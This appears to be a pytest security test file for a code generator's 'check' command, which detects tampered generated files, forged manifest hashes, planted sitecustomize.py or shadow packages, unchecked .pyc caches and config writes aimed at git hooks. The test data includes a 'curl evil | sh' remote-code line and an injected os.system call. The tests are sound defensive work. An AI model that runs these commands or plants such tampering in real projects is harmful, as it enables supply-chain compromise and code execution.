"""`check` believes only hashes it derived itself from the inputs, never the tree's own manifest, and
covers the compiled `_pb2` files (SECURITY.md, "no false pass")."""

from __future__ import annotations

import hashlib
import json
import os
import py_compile
import subprocess
import sys
from pathlib import Path

import pytest

from tests.security.io_support import PUMP_PKG, idlgen, manifest, one_line_error, tree, two_programs

PB2 = f"{PUMP_PKG}/pyth_push_oracle_pb2.py"


@pytest.fixture
def built(tmp_path: Path) -> Path:
    root = two_programs(tmp_path / "proj")
    r = idlgen(root, "build")  # also fills the user cache: check's fast path is live in these tests
    assert r.returncode == 0, r.stderr
    assert idlgen(root, "check").returncode == 0
    return root


def rehash_in_manifest(root: Path, rel: str) -> None:
    """What an attacker does after editing a generated file: record its new sha256 in the manifest."""
    m = root / "generated" / ".idlgen-manifest.json"
    doc = json.loads(m.read_text())
    doc["files"][rel]["sha256"] = hashlib.sha256((root / rel).read_bytes()).hexdigest()
    m.write_text(json.dumps(doc, indent=2) + "\n")


def test_appended_code_with_its_new_hash_in_the_manifest_fails_check(built: Path) -> None:
    rel = f"{PUMP_PKG}/types.py"
    with (built / rel).open("a") as fh:
        fh.write("import os\nos.system('curl evil | sh')\n")
    rehash_in_manifest(built, rel)
    assert manifest(built)[rel]["sha256"] == hashlib.sha256((built / rel).read_bytes()).hexdigest()
    r = idlgen(built, "check")
    assert r.returncode == 1, r.stdout
    assert f"stale: {rel}" in r.stdout and "os.system" in r.stdout


def test_line_inserted_into_pb2_is_found_by_check_and_repaired_by_build(built: Path) -> None:
    pb2 = built / PB2
    original = pb2.read_bytes()
    lines = original.decode().splitlines(keepends=True)
    key_line = next(i for i, line in enumerate(lines) if line.startswith("# compiled from: "))
    lines.insert(key_line + 1, "__import__('os').system('id')\n")  # the provenance header stays intact
    pb2.write_text("".join(lines))
    rehash_in_manifest(built, PB2)
    r = idlgen(built, "check")
    assert r.returncode == 1 and f"stale: {PB2}" in r.stdout, r.stdout
    r = idlgen(built, "build")
    assert r.returncode == 0 and "1 written" in r.stdout, r.stdout
    assert pb2.read_bytes() == original
    assert idlgen(built, "check").returncode == 0


def test_tampered_manifest_alone_is_stale(built: Path) -> None:
    m = built / "generated" / ".idlgen-manifest.json"
    doc = json.loads(m.read_text())
    doc["files"]["idl/pump.json"] = {"sha256": "0" * 64, "target": "python", "programs": []}
    m.write_text(json.dumps(doc, indent=2) + "\n")
    r = idlgen(built, "check")
    assert r.returncode == 1 and "stale: generated/.idlgen-manifest.json" in r.stdout, r.stdout
    assert idlgen(built, "build").returncode == 0
    assert idlgen(built, "check").returncode == 0


def test_without_a_cache_check_renders_and_still_finds_everything(built: Path) -> None:
    nocache = {"IDLGEN_NO_CACHE": "1"}
    assert idlgen(built, "check", env=nocache).returncode == 0
    rel = f"{PUMP_PKG}/errors.py"
    (built / rel).write_text((built / rel).read_text() + "# hand edit\n")
    rehash_in_manifest(built, rel)
    r = idlgen(built, "check", env=nocache)
    assert r.returncode == 1 and f"stale: {rel}" in r.stdout


def test_manifest_carries_no_trusted_fingerprint(built: Path) -> None:
    """Nothing in the tree claims freshness: the manifest lists files, never the inputs' fingerprint."""
    doc = json.loads((built / "generated" / ".idlgen-manifest.json").read_text())
    assert set(doc) == {"generator", "files"}


def test_files_slipped_into_the_output_folder_are_reported(built: Path) -> None:
    """A package folder shadows the generated module of the same name, and sitecustomize.py runs at
    interpreter start-up when generated/python is on the path: neither is listed anywhere."""
    shadow = built / PUMP_PKG / "types" / "__init__.py"
    shadow.parent.mkdir()
    shadow.write_text("import os\n")
    site = built / "generated" / "python" / "sitecustomize.py"
    site.write_text("import os\n")
    r = idlgen(built, "check")
    assert r.returncode == 1, r.stdout
    assert f"unexpected: {PUMP_PKG}/types/__init__.py" in r.stdout
    assert "unexpected: generated/python/sitecustomize.py" in r.stdout
    assert idlgen(built, "build").returncode == 0 and shadow.is_file(), "build never deletes what it did not write"
    shadow.unlink()
    site.unlink()
    assert idlgen(built, "check").returncode == 0


def test_bytecode_caches_pass_unless_python_would_run_them_unchecked(built: Path) -> None:
    pkg = built / PUMP_PKG
    r = subprocess.run([sys.executable, "-c", "import pyth_push_oracle.types"], cwd=pkg.parent, capture_output=True,
                       text=True, check=False, env={**os.environ, "PYTHONDONTWRITEBYTECODE": ""})
    assert r.returncode == 0, r.stderr
    assert list((pkg / "__pycache__").glob("*.pyc")), "importing wrote timestamp pycs"
    assert idlgen(built, "check").returncode == 0
    evil = pkg / "__pycache__" / f"errors.{sys.implementation.cache_tag}.pyc"
    py_compile.compile(str(pkg / "errors.py"), cfile=str(evil),
                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    r = idlgen(built, "check")
    assert r.returncode == 1 and f"unexpected: {PUMP_PKG}/__pycache__/{evil.name}" in r.stdout, r.stdout


@pytest.mark.parametrize("config", ['out = ".git/gen"', 'lock = ".git/hooks/pre-commit"',
                                    'lock = ".github/workflows/x.yml"'])
def test_config_cannot_aim_writes_into_git(tmp_path: Path, config: str) -> None:
    root = two_programs(tmp_path / "proj")
    text = (root / "pyproject.toml").read_text()
    if config.startswith("out"):
        text = text.replace('out = "generated"', config)
    else:
        text = text.replace('idl = "idl/pump.json"', f'idl = "idl/pump.json"\n{config}')
    (root / "pyproject.toml").write_text(text)
    before = tree(root)
    assert ".git" in one_line_error(idlgen(root, "build")) or ".json" in one_line_error(idlgen(root, "build"))
    assert tree(root) == before
